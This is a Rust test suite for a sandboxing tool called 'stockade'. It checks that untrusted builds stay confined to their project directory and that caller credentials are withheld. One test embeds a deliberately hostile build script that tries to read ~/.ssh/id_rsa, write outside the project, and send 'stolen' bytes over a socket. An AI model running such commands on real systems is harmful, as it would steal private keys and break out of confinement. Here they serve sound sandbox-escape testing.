//! The `build` use: untrusted builds run unchanged in their project directory, and cannot
//! touch anything else. A real autoconf C project nobody here wrote (Debian's source package
//! of GNU hello) is configured, built and tested; a small crate with vendored dependencies is
//! built offline with cargo; a hostile build step tries to get out, and the host shows that
//! nothing happened.

mod common;
mod uses_support;

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use uses_support::{copy_tree, WorkDir};

fn build_profile_or_skip() -> bool {
    if uses_support::profile_available("build") {
        return true;
    }
    common::skip("the build profile is not in this build yet (profiles issue)");
    false
}

/// `stockade run --profile build EXTRA -- ARGV` in `cwd`.
fn in_build(cwd: &Path, extra: &[&str], argv: &[&str]) -> Output {
    let mut args = vec!["run", "--profile", "build"];
    args.extend_from_slice(extra);
    args.push("--");
    args.extend_from_slice(argv);
    common::stockade(args)
        .current_dir(cwd)
        .output()
        .expect("running stockade")
}

#[test]
fn gnu_hello_configure_make_check_inside_build() {
    if !build_profile_or_skip() {
        return;
    }
    for tool in ["cc", "make"] {
        if !common::have(tool) {
            common::skip(&format!("{tool} is not installed (gcc, make)"));
            return;
        }
    }
    let source = match uses_support::hello_source() {
        Ok(s) => s,
        Err(reason) => {
            common::skip(&reason);
            return;
        }
    };
    let work = WorkDir::new("hello");
    copy_tree(&source, work.path());
    let project = work.path().join(source.file_name().unwrap());
    let out = in_build(
        &project,
        &[],
        &["sh", "-c", "./configure && make && make check"],
    );
    let log = format!("{}{}", common::stdout(&out), common::stderr(&out));
    assert_eq!(
        out.status.code(),
        Some(0),
        "configure/make/make check failed inside build:\n{}",
        tail(&log, 40)
    );
    // automake's test-suite summary: some tests passed, none failed.
    let count = |label: &str| -> Option<u32> {
        log.lines()
            .find_map(|l| l.strip_prefix(label))
            .and_then(|v| v.trim().parse().ok())
    };
    assert!(
        count("# PASS:").is_some_and(|n| n > 0) && count("# FAIL:") == Some(0),
        "make check ran no test or failed one:\n{}",
        tail(&log, 40)
    );
    // The program built inside works on the host, and inside the sandbox too.
    let hello = project.join("hello");
    let host = Command::new(&hello).output().expect("running hello");
    assert_eq!(String::from_utf8_lossy(&host.stdout), "Hello, world!\n");
    let inside = in_build(&project, &[], &["./hello", "--greeting=sandboxed"]);
    common::assert_status(&inside, 0);
    assert_eq!(common::stdout(&inside), "sandboxed\n");
}

fn tail(text: &str, lines: usize) -> String {
    let all: Vec<&str> = text.lines().collect();
    all[all.len().saturating_sub(lines)..].join("\n")
}

/// A cargo the test user can run: root's rustup toolchain (/root/.cargo) is not readable by
/// an ordinary user, Debian's `cargo` package (/usr/bin/cargo) is.
fn usable_cargo() -> Option<PathBuf> {
    let candidates = [
        std::env::var_os("STOCKADE_TEST_CARGO").map(PathBuf::from),
        Some(PathBuf::from("/usr/bin/cargo")),
        Some(PathBuf::from("cargo")),
    ];
    candidates.into_iter().flatten().find(|cargo| {
        Command::new(cargo)
            .arg("--version")
            .output()
            .map(|o| o.status.success())
            .unwrap_or(false)
    })
}

/// Debian's librust-*-dev packages keep crate sources in /usr/share/cargo/registry: a registry
/// package we can vendor without the network.
fn debian_crate(prefix: &str) -> Option<PathBuf> {
    std::fs::read_dir("/usr/share/cargo/registry")
        .ok()?
        .flatten()
        .map(|e| e.path())
        .find(|p| {
            p.file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| n.starts_with(prefix))
        })
}

#[test]
fn cargo_build_offline_with_vendored_dependencies_inside_build() {
    if !build_profile_or_skip() {
        return;
    }
    let Some(cargo) = usable_cargo() else {
        common::skip("no cargo this user can run (Debian: apt install cargo)");
        return;
    };
    let Some(cfg_if) = debian_crate("cfg-if-") else {
        common::skip("no crate to vendor (Debian: apt install librust-cfg-if-dev)");
        return;
    };
    let work = WorkDir::new("cargo-vendored");
    let project = work.path().join("vendored-demo");
    std::fs::create_dir_all(project.join("src")).unwrap();
    std::fs::create_dir_all(project.join(".cargo")).unwrap();
    std::fs::create_dir_all(project.join("vendor")).unwrap();
    copy_tree(&cfg_if, &project.join("vendor/cfg-if"));
    // A directory source needs a checksum file; an empty file list means "not checked",
    // which is what `cargo vendor` writes for path-less copies too.
    let _ = Command::new("chmod")
        .args(["-R", "u+w"])
        .arg(project.join("vendor"))
        .status();
    std::fs::write(
        project.join("vendor/cfg-if/.cargo-checksum.json"),
        r#"{"files":{}}"#,
    )
    .unwrap();
    std::fs::write(
        project.join("Cargo.toml"),
        "[package]\nname = \"vendored-demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
         [dependencies]\ncfg-if = \"1\"\n",
    )
    .unwrap();
    std::fs::write(
        project.join(".cargo/config.toml"),
        "[source.crates-io]\nreplace-with = \"vendored\"\n\n\
         [source.vendored]\ndirectory = \"vendor\"\n",
    )
    .unwrap();
    std::fs::write(
        project.join("src/main.rs"),
        "cfg_if::cfg_if! {\n    if #[cfg(target_os = \"linux\")] {\n        \
         fn os() -> &'static str { \"linux\" }\n    } else {\n        \
         fn os() -> &'static str { \"other\" }\n    }\n}\n\n\
         fn main() {\n    println!(\"vendored build on {}\", os());\n}\n",
    )
    .unwrap();
    let cargo = cargo.to_string_lossy().into_owned();
    let out = in_build(&project, &[], &[&cargo, "build", "--offline"]);
    common::assert_status(&out, 0);
    let built = project.join("target/debug/vendored-demo");
    let run = Command::new(&built)
        .output()
        .expect("running the built program");
    assert_eq!(
        String::from_utf8_lossy(&run.stdout),
        "vendored build on linux\n"
    );
    // The lock file names the vendored copy, not the network.
    let lock = std::fs::read_to_string(project.join("Cargo.lock")).unwrap();
    assert!(lock.contains("name = \"cfg-if\""), "{lock}");
}

/// What the hostile build step tries, one line of output per attempt.
const HOSTILE: &str = r#"
attempt() { what=$1; shift; if "$@" 2>/dev/null; then echo "ESCAPED $what"; else echo "blocked $what"; fi; }
attempt home sh -c "echo pwned > '$REAL_HOME/stockade-pwned-$TAG'"
attempt sibling sh -c "echo pwned > '$SIBLING/pwned'"
attempt host-tmp sh -c "echo pwned > '$HOST_TMP_FILE'"
attempt ssh-key cat "$REAL_HOME/.ssh/id_rsa"
attempt loopback python3 -c "
import socket, sys
s = socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=3)
s.sendall(b'stolen')
" "$PORT"
echo built > built-artifact
"#;

#[test]
fn hostile_build_step_cannot_write_read_or_connect_outside() {
    if !build_profile_or_skip() {
        return;
    }
    let home = uses_support::home();
    let tag = std::process::id().to_string();
    let work = WorkDir::new("hostile");
    let project = work.path().join("project");
    let sibling = work.path().join("sibling");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::create_dir_all(&sibling).unwrap();
    std::fs::write(
        project.join("Makefile"),
        "all:\n\tsh ./build.sh\n".replace("    ", "\t"),
    )
    .unwrap();
    std::fs::write(project.join("build.sh"), HOSTILE).unwrap();

    // A private key canary, created for this test only when the user has none.
    let ssh = home.join(".ssh");
    let key = ssh.join("id_rsa");
    let made_ssh = !ssh.exists();
    let made_key = !key.exists();
    if made_key {
        use std::os::unix::fs::DirBuilderExt;
        let _ = std::fs::DirBuilder::new().mode(0o700).create(&ssh);
        std::fs::write(&key, format!("CANARY PRIVATE KEY {tag}\n")).unwrap();
    }
    let key_contents = std::fs::read_to_string(&key).unwrap_or_default();

    let listener = TcpListener::bind("127.0.0.1:0").expect("binding a loopback listener");
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let host_tmp = std::env::temp_dir().join(format!("stockade-pwned-{tag}"));
    let home_file = home.join(format!("stockade-pwned-{tag}"));

    let out = common::stockade(["run", "--profile", "build", "--", "make"])
        .current_dir(&project)
        .env("REAL_HOME", &home)
        .env("TAG", &tag)
        .env("SIBLING", &sibling)
        .env("HOST_TMP_FILE", &host_tmp)
        .env("PORT", &port)
        .output()
        .expect("running stockade");

    // On the host: nothing was written, nothing connected, nothing read.
    let accepted = listener.accept();
    let home_written = home_file.exists();
    let tmp_written = host_tmp.exists();
    let sibling_written = sibling.join("pwned").exists();
    let _ = std::fs::remove_file(&home_file);
    let _ = std::fs::remove_file(&host_tmp);
    if made_key {
        let _ = std::fs::remove_file(&key);
    }
    if made_ssh {
        let _ = std::fs::remove_dir(&ssh);
    }
    let text = common::stdout(&out);
    common::assert_status(&out, 0);
    println!("{text}");
    assert!(!home_written, "the build wrote into the real $HOME");
    assert!(!tmp_written, "the build wrote into the host's /tmp");
    assert!(!sibling_written, "the build wrote into a sibling directory");
    assert!(
        matches!(&accepted, Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the host's loopback listener got a connection: {accepted:?}"
    );
    assert!(
        key_contents.is_empty() || !text.contains(key_contents.trim()),
        "the build read ~/.ssh/id_rsa"
    );
    // Writes may succeed inside (into the sandbox's private /tmp or $HOME): what counts is the
    // host, checked above. Reading the key and connecting have no private stand-in.
    for what in ["ssh-key", "loopback"] {
        assert!(
            text.contains(&format!("blocked {what}")),
            "{what} not blocked:\n{text}"
        );
    }
    // ... while the project directory itself is writable: the build's own output is there.
    assert_eq!(
        std::fs::read_to_string(project.join("built-artifact")).ok(),
        Some("built\n".to_string())
    );
}

/// The build and test profiles bind `${CWD}`; run from `/` or from the home directory (or a
/// directory above it), that bind would take in the whole filesystem or the whole home,
/// writable under build, which the profiles' tmpfs over `${HOME}` is there to hide. Such a
/// launch is refused before anything runs, and so is a `$HOME` of `/`, whose tmpfs would
/// cover the sandbox's root.
#[test]
fn a_working_directory_holding_the_home_is_refused_not_bound() {
    if !build_profile_or_skip() {
        return;
    }
    let home = uses_support::home();
    let above_home = home.parent().expect("the home has a parent").to_path_buf();
    let script = ["sh", "-c", "echo ran"];
    for (profile, cwd, expected) in [
        (
            "build",
            PathBuf::from("/"),
            "${CWD} is / here, so this would expose the whole filesystem",
        ),
        ("build", home.clone(), "which holds your home directory"),
        ("build", above_home, "which holds your home directory"),
        ("test", home.clone(), "which holds your home directory"),
    ] {
        let out = common::stockade(["run", "--profile", profile, "--"].iter().chain(&script))
            .current_dir(&cwd)
            .output()
            .unwrap();
        let err = common::stderr(&out);
        assert_eq!(out.status.code(), Some(125), "{profile} in {cwd:?}: {err}");
        assert_eq!(
            common::stdout(&out),
            "",
            "{profile} in {cwd:?}: the command ran"
        );
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(err.contains(expected), "{profile} in {cwd:?}: {err}");
    }
    let project = WorkDir::new("home-slash");
    let out = common::stockade(["run", "--profile", "build", "--"].iter().chain(&script))
        .current_dir(project.path())
        .env("HOME", "/")
        .output()
        .unwrap();
    let err = common::stderr(&out);
    assert_eq!(out.status.code(), Some(125), "{err}");
    assert!(
        err.contains("${HOME} is / here, so this would cover the sandbox's whole root"),
        "{err}"
    );
    // From a project directory the same launch runs.
    let out = in_build(project.path(), &[], &script);
    assert_eq!(common::stdout(&out), "ran\n", "{}", common::stderr(&out));
}

/// `--chdir DIR` names the project as well as the directory the build starts in: DIR is the
/// writable one (the README's promise), and the directory stockade was started from is not
/// part of the sandbox.
#[test]
fn build_profile_with_chdir_makes_that_directory_the_project() {
    if !build_profile_or_skip() {
        return;
    }
    let work = WorkDir::new("chdir");
    let project = work.path().join("project");
    let started_in = work.path().join("elsewhere");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::create_dir_all(&started_in).unwrap();
    let script = format!(
        "pwd; echo built > artifact; touch '{}/stray' 2>/dev/null || echo elsewhere-not-writable",
        started_in.display()
    );
    let out = in_build(
        &started_in,
        &["--chdir", project.to_str().unwrap()],
        &["sh", "-c", &script],
    );
    common::assert_status(&out, 0);
    assert_eq!(
        common::stdout(&out),
        format!("{}\nelsewhere-not-writable\n", project.display()),
        "{}",
        common::stderr(&out)
    );
    assert_eq!(
        std::fs::read_to_string(project.join("artifact"))
            .ok()
            .as_deref(),
        Some("built\n")
    );
    assert!(!started_in.join("stray").exists());

    // A --chdir that is no directory on the host cannot be the project: one line naming it.
    let missing = work.path().join("missing");
    let out = in_build(
        &started_in,
        &["--chdir", missing.to_str().unwrap()],
        &["true"],
    );
    common::assert_status(&out, 125);
    let err = common::stderr(&out);
    assert!(
        err.lines().count() == 1 && err.contains("--chdir") && err.contains("missing"),
        "{err}"
    );
}

/// A command named by a path the sandbox does not have, though the host does, fails with
/// 127 like a missing one: the message must say why, and how to bring it in, rather than
/// leave "No such file or directory" about a file the user can see.
#[test]
fn a_host_command_outside_the_sandbox_is_reported_as_not_bound() {
    if !build_profile_or_skip() {
        return;
    }
    let work = WorkDir::new("unbound");
    let project = work.path().join("project");
    let tools = work.path().join("tools");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::create_dir_all(&tools).unwrap();
    let tool = tools.join("gen.sh");
    std::fs::write(&tool, "#!/bin/sh\necho generated\n").unwrap();
    std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();

    let out = in_build(&project, &[], &[tool.to_str().unwrap()]);
    common::assert_status(&out, 127);
    let err = common::stderr(&out);
    let bind = format!("--ro-bind {} {}", tools.display(), tools.display());
    assert!(
        err.lines().count() == 1 && err.contains(tool.to_str().unwrap()) && err.contains(&bind),
        "no hint to bind {}: {err}",
        tools.display()
    );
    // The hint is right: with that bind the same command runs.
    let extra = [
        "--ro-bind",
        tools.to_str().unwrap(),
        tools.to_str().unwrap(),
    ];
    let out = in_build(&project, &extra, &[tool.to_str().unwrap()]);
    common::assert_status(&out, 0);
    assert_eq!(common::stdout(&out), "generated\n");

    // A path missing on the host too, and a name PATH does not have: no hint to bind.
    let missing = tools.join("missing.sh");
    for command in [missing.to_str().unwrap(), "no-such-command-here"] {
        let out = in_build(&project, &[], &[command]);
        common::assert_status(&out, 127);
        let err = common::stderr(&out);
        assert_eq!(
            err,
            format!("stockade: {command}: No such file or directory\n"),
            "no bind can help"
        );
    }
}

/// `$PWD` names the directory the command starts in, as with bubblewrap: Makefiles use
/// `$(PWD)` (make takes it from the environment), and so do scripts in languages other
/// than sh, which do not check it against the real working directory.
#[test]
fn pwd_is_the_directory_the_command_starts_in() {
    if !build_profile_or_skip() {
        return;
    }
    if !common::have("make") {
        common::skip("make is not installed on the host");
        return;
    }
    let work = WorkDir::new("pwd");
    let project = work.path().join("project");
    let started_in = work.path().join("elsewhere");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::create_dir_all(&started_in).unwrap();
    std::fs::write(project.join("Makefile"), "all:\n\t@echo make $(PWD)\n").unwrap();
    let out = in_build(
        &started_in,
        &["--chdir", project.to_str().unwrap()],
        &["make", "-s"],
    );
    common::assert_status(&out, 0);
    assert_eq!(
        common::stdout(&out),
        format!("make {}\n", project.display()),
        "{}",
        common::stderr(&out)
    );
    // Without a project the default sandbox starts in / (the caller's directory is not
    // inside): PWD says so rather than name a directory that is not there.
    let out = common::stockade(["run", "--", "printenv", "PWD"])
        .current_dir(&started_in)
        .output()
        .unwrap();
    common::assert_status(&out, 0);
    assert_eq!(common::stdout(&out), "/\n");
    // A PWD that names the directory the command starts in is the caller's, kept as given
    // (here through a trailing "/."), and one that is stale is corrected.
    for (given, expected) in [
        (
            format!("{}/.", project.display()),
            format!("{}/.", project.display()),
        ),
        ("/usr".to_string(), project.display().to_string()),
    ] {
        let out = common::stockade(["run", "--profile", "build", "--", "printenv", "PWD"])
            .current_dir(&project)
            .env("PWD", &given)
            .output()
            .unwrap();
        common::assert_status(&out, 0);
        assert_eq!(common::stdout(&out), format!("{expected}\n"), "PWD={given}");
    }
}

/// An untrusted build or test does not get the credentials in the caller's environment (a CI
/// job's secrets, registry and cloud tokens); other variables pass, and a credential named
/// with --setenv does too.
#[test]
fn credentials_in_the_environment_do_not_reach_builds_or_tests() {
    if !build_profile_or_skip() {
        return;
    }
    let project = WorkDir::new("env-secrets");
    let secrets = [
        ("GITHUB_TOKEN", "gh-secret"),
        ("CARGO_REGISTRY_TOKEN", "cargo-secret"),
        ("AWS_SECRET_ACCESS_KEY", "aws-secret"),
        ("npm_config__authToken", "npm-secret"),
        ("TWINE_PASSWORD", "pypi-secret"),
        ("OPENAI_API_KEY", "api-secret"),
    ];
    for profile in ["build", "test"] {
        let mut cmd = common::stockade([
            "run",
            "--profile",
            profile,
            "--setenv",
            "PASSED_TOKEN",
            "asked-for",
            "--",
            "env",
        ]);
        cmd.current_dir(project.path())
            .env("ORDINARY_SETTING", "kept");
        for (name, value) in secrets {
            cmd.env(name, value);
        }
        let out = cmd.output().unwrap();
        common::assert_status(&out, 0);
        let env = common::stdout(&out);
        for (name, value) in secrets {
            assert!(
                !env.contains(value),
                "{profile}: {name} reached the command"
            );
        }
        assert!(env.contains("ORDINARY_SETTING=kept\n"), "{profile}: {env}");
        assert!(env.contains("PASSED_TOKEN=asked-for\n"), "{profile}: {env}");
    }
}

/// A TMPDIR of the caller's names a host directory the sandbox does not have (the home is
/// replaced, the project is read-only under test): temporary files go to the private /tmp.
#[test]
fn temporary_files_go_to_the_private_tmp_whatever_the_callers_tmpdir() {
    if !build_profile_or_skip() {
        return;
    }
    let project = WorkDir::new("tmpdir");
    let home = uses_support::home();
    for profile in ["build", "test"] {
        let out = common::stockade(["run", "--profile", profile, "--", "mktemp"])
            .current_dir(project.path())
            .env("TMPDIR", home.join(".cache"))
            .output()
            .unwrap();
        common::assert_status(&out, 0);
        let made = common::stdout(&out);
        assert!(made.starts_with("/tmp/tmp."), "{profile}: {made}");
        assert!(
            !Path::new(made.trim()).exists(),
            "{profile}: made on the host"
        );
    }
}
